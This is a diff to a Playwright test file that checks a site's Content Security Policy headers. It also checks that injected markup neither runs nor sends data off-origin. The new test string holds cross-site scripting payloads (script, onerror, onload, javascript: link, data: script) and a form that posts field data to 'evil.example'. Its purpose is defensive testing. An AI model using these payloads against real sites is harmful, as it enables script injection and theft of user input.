@@ -52,7 +52,9 @@ for (const [method, cases] of [
   ['POST', POSTS],
 ] as const)
   for (const [path, status] of cases)
-    test(`R15: ${method} ${path} answers ${String(status)} with every header`, async ({ request }) => {
+    test(`R15: ${method} ${path} answers ${String(status)} with every header`, async ({
+      request,
+    }) => {
       const response = await request.fetch(path, {
         method,
         maxRedirects: 0,
@@ -74,27 +76,63 @@ for (const [method, cases] of [
         'form-action',
       ])
         expect(policy).toContain(part)
-      expect(policy).not.toContain('unsafe-inline')
+      expect(policy).not.toMatch(/'unsafe-(inline|eval|hashes)'|\*|https?:/)
+      if (headers['content-type']?.startsWith('text/html') && path !== '/exit') {
+        expect(policy).toContain("form-action 'self'")
+        expect(policy).toContain("require-trusted-types-for 'script'")
+        // Hashes only; the staff page alone runs files of its own origin.
+        const scripts = /script-src ([^;]*)/.exec(policy)?.[1] ?? ''
+        if (!path.startsWith('/staff/')) expect(scripts).toMatch(/^('none'|('sha256-[^']+' ?)+)$/)
+      }
       expect(headers['set-cookie']).toBeUndefined()
       if (path.startsWith('/api/') && path !== '/api/keys')
         expect(headers['cache-control']).toContain('no-store')
     })
 
-test('markup that is put into a page does not run', async ({ page }) => {
-  const refused: string[] = []
-  page.on('console', (message) => refused.push(message.text()))
-  await page.route('**/ky/', async (route) => {
-    const response = await route.fetch()
-    const body = (await response.text()).replace(
-      '</main>',
-      '<script>window.ran = 1</script><img src=x onerror="window.ran = 1"></main>',
+/** Each would run, or send words elsewhere, on a page without a policy. */
+const INJECTED = `<script>window.ran = 1</script><img src=x onerror="window.ran = 1"><svg onload="window.ran = 1"></svg>
+<iframe srcdoc="<script>parent.ran = 1</script>"></iframe><script src="data:text/javascript,window.ran = 1"></script>
+<a id=injected href="javascript:window.ran = 1">x</a><base href="https://evil.example/"><style>html { color: rgb(1, 2, 3) }</style>
+<form id=sent action="https://evil.example/" method=post><input name=a value=words></form>`
+
+for (const path of ['/ky/', '/ky/tell/', '/ru/answer/', '/en/help/', '/staff/'])
+  test(`R15: markup that is put into ${path} does not run, and sends nothing elsewhere`, async ({
+    page,
+  }) => {
+    const refused: string[] = []
+    const asked: string[] = []
+    page.on('console', (message) => refused.push(message.text()))
+    page.on('request', (request) => asked.push(request.url()))
+    await page.route(`**${path}`, async (route) => {
+      const response = await route.fetch()
+      const body = (await response.text()).replace('</body>', `${INJECTED}</body>`)
+      expect(body).toContain(INJECTED)
+      await route.fulfill({ response, body })
+    })
+    await page.goto(path)
+    await page.evaluate(() => {
+      document.getElementById('injected')?.click()
+      ;(document.getElementById('sent') as HTMLFormElement).submit()
+    })
+    const markup = await page.evaluate(() => {
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<b id=made>x</b>')
+        return 'made'
+      } catch (refusal) {
+        return (refusal as Error).name
+      }
+    })
+    expect(markup).toBe('TypeError')
+    expect(await page.evaluate(() => 'ran' in window)).toBe(false)
+    expect(await page.evaluate(() => getComputedStyle(document.documentElement).color)).not.toBe(
+      'rgb(1, 2, 3)',
     )
-    await route.fulfill({ response, body })
+    expect(refused.join()).toContain('Content Security Policy')
+    const origin = new URL(page.url()).origin
+    expect(
+      asked.filter((url) => !url.startsWith(origin) && !/^(data|about|blob):/.test(url)),
+    ).toEqual([])
   })
-  await page.goto('/ky/')
-  expect(await page.evaluate(() => 'ran' in window)).toBe(false)
-  expect(refused.join()).toContain('Content Security Policy')
-})
 
 test('/ goes to the language of the phone, and lets one choose when it speaks another', async ({
   request,
